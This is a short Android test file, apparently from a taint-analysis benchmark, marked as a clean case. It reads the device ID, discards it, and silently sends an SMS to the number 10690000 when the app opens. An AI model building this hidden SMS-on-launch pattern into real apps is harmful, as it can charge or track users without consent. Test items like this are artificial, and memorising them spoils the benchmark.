// about       The builder is emptied, and what is put in afterwards is a word.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    StringBuilder text = new StringBuilder(phone.getDeviceId());
    text.delete(0, text.length());
    text.insert(0, "id ");
    text.append('.');
    SmsManager.getDefault().sendTextMessage("10690000", null, text.toString(), null, null);
  }
}
